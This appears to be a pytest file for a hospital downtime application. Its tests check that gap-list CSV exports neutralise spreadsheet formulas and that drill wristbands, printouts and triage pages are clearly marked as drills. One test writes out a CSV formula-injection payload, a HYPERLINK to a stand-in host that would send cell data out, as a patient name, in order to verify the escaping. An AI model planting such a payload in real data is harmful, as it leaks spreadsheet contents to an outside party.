"""A review of the downtime pages as a night nurse and as an attacker would read them:
what a hostile name does to a CSV a spreadsheet opens, and a drill's wristband that no one
can take for a real one."""

from __future__ import annotations

import csv
import html
import io
import re
import subprocess
from pathlib import Path

from standby import clinical
from standby.monitor import downtime
from standby.monitor.config import MonitorConfig
from support.web_site import Hospital, csrf_of


def _ranges(h: Hospital) -> None:
    web = h.app.state.web
    web.settings = web.settings.model_copy(
        update={
            "journal_mrn_range": "DT4W-0001..DT4W-0999",
            "journal_encounter_range": "DE4W-0001..DE4W-0999",
        }
    )


def _free_bed(h: Hospital) -> tuple[str, str]:
    """(unit id, bed id) of a free bed anywhere in the hospital."""
    for u in clinical.units(h.store):
        for b in clinical.unit_census(h.store, u.id, h.clock.now).beds:
            if b.patient is None and b.bed_id:
                return u.id, b.bed_id
    raise AssertionError("no free bed in the hospital")


def _register(h: Hospital, family: str) -> tuple[str, str]:
    """Register a patient in a free bed as the registrar: (their id, their unit)."""
    unit, bed = _free_bed(h)
    c = h.login("registrar")
    page = c.get("/register")
    entry_id = re.search(r'name="entry_id" value="([^"]+)"', page.text)
    assert entry_id, page.text[:500]
    data = {
        "csrf_token": csrf_of(page.text),
        "entry_id": entry_id.group(1),
        "family": family,
        "given": "Chidi",
        "birth_date": "1961-07-14",
        "sex": "male",
        "setting": "inpatient",
        "numbers": "new",
        "location_id": bed,
    }
    r = c.post("/register", data=data, follow_redirects=False)
    assert r.status_code == 303, html.unescape(r.text)[:800]
    return r.headers["location"].rsplit("/", 1)[1], unit


def test_the_gap_list_csv_never_hands_a_spreadsheet_a_formula(hospital: Hospital) -> None:
    """A patient registered during the downtime gives their own name; the gap list's CSV
    (opened in a spreadsheet by the charge nurse) must not turn it into a formula."""
    downtime.declare(hospital.store, MonitorConfig(), "ic", hospital.clock.now, reason="EHR down")
    _ranges(hospital)
    _, unit = _register(hospital, '=HYPERLINK("http://evil.example/?"&A1,"x")')
    hospital.clock.advance(hours=9)
    c = hospital.login("ic")  # the census of every unit
    got = c.get(f"/recovery/gaps/{unit}?format=csv")
    assert got.status_code == 200, got.text[:500]
    rows = list(csv.reader(io.StringIO(got.text)))
    hostile = [row for row in rows if "HYPERLINK" in ",".join(row)]
    assert hostile, "the registered patient is on the gap list"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def _words(pdf: bytes) -> list[tuple[str, float]]:
    """Each word of the PDF with its height in points (pdftotext -bbox)."""
    out = subprocess.run(
        ["pdftotext", "-bbox", "-", "-"], input=pdf, capture_output=True, check=True
    ).stdout.decode()
    words = []
    for line in out.splitlines():
        line = line.strip()
        if line.startswith("<word "):
            attrs = dict(
                part.split("=", 1) for part in line[6 : line.index(">")].split() if "=" in part
            )
            text = line[line.index(">") + 1 : line.rindex("</word>")]
            height = float(attrs["yMax"].strip('"')) - float(attrs["yMin"].strip('"'))
            words.append((html.unescape(text), height))
    return words


def test_a_drill_wristband_says_drill_as_large_as_a_real_one_says_downtime(
    hospital: Hospital, tmp_path: Path
) -> None:
    """A drill's band put on a real patient would carry a number the EHR will never know:
    the drill must be the first thing read on it, not a footnote in 7.5 pt that a long
    username pushes off the strip."""
    downtime.declare(
        hospital.store, MonitorConfig(), "ic", hospital.clock.now, reason="drill", drill=True
    )
    _ranges(hospital)
    pid, _ = _register(hospital, "Okafor")
    band = hospital.login("registrar").get(f"/register/{pid}/wristband.pdf")
    assert band.status_code == 200
    pdf = tmp_path / "drill-wristband.pdf"
    pdf.write_bytes(band.content)
    png = Path("/tmp/shots/review-pass/drill-wristband")
    png.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(["pdftoppm", "-png", "-r", "100", "-singlefile", str(pdf), str(png)], check=True)
    words = _words(band.content)
    big = {w for w, h in words if h >= 12}
    assert "DRILL" in big, sorted(big)
    assert "DOWNTIME" not in big  # the real band's label is not on a drill's


def test_a_drill_postpones_no_real_surgery(hospital: Hospital) -> None:
    """A drill practises the downtime: it must not make triage postpone real patients'
    surgeries (and put them on the call lists) as if the EHR were down."""
    downtime.declare(
        hospital.store, MonitorConfig(), "ic", hospital.clock.now, reason="drill", drill=True
    )
    c = hospital.login("scheduler")
    text = html.unescape(c.get("/schedules/triage").text)
    assert "<td>EHR downtime declared</td>" not in text
    calls = html.unescape(c.get("/schedules/calls").text)
    assert "Nobody to call" in calls


def test_a_real_downtime_marks_the_ehr_down_for_triage(hospital: Hospital) -> None:
    downtime.declare(hospital.store, MonitorConfig(), "ic", hospital.clock.now, reason="down")
    text = html.unescape(hospital.login("scheduler").get("/schedules/triage").text)
    assert "<td>EHR downtime declared</td>" in text


def test_a_drills_documentation_pdf_does_not_say_back_entry_will_file_it(
    hospital: Hospital,
) -> None:
    """A drill's entries are never sent to the EHR: the printout must say so, not that
    back-entry will file them (what a real downtime's printout says)."""
    downtime.declare(
        hospital.store, MonitorConfig(), "ic", hospital.clock.now, reason="drill", drill=True
    )
    p = clinical.unit_census(hospital.store, hospital.unit_id, hospital.clock.now).patients[0]
    r = hospital.login("nurse").get(f"/patients/{p.id}/document/print.pdf")
    assert r.status_code == 200, r.text[:300]
    text = " ".join(
        subprocess.run(["pdftotext", "-", "-"], input=r.content, capture_output=True, check=True)
        .stdout.decode()
        .split()
    )
    assert "never sent to the EHR" in text
    assert "Back-entry files" not in text
    assert p.mrn in text  # still the patient's identifiers


def test_the_gap_list_in_a_drill_does_not_say_nothing_was_declared(hospital: Hospital) -> None:
    """In a drill, "no downtime has been declared" alone is not true: the drill was; the
    gap list leaves drills out, and says so."""
    downtime.declare(
        hospital.store, MonitorConfig(), "ic", hospital.clock.now, reason="drill", drill=True
    )
    c = hospital.login("nurse")
    for url in ("/recovery/gaps", f"/recovery/gaps/{hospital.unit_id}"):
        text = html.unescape(c.get(url).text)
        assert "No downtime has been declared on this Standby (drills are left out)" in text
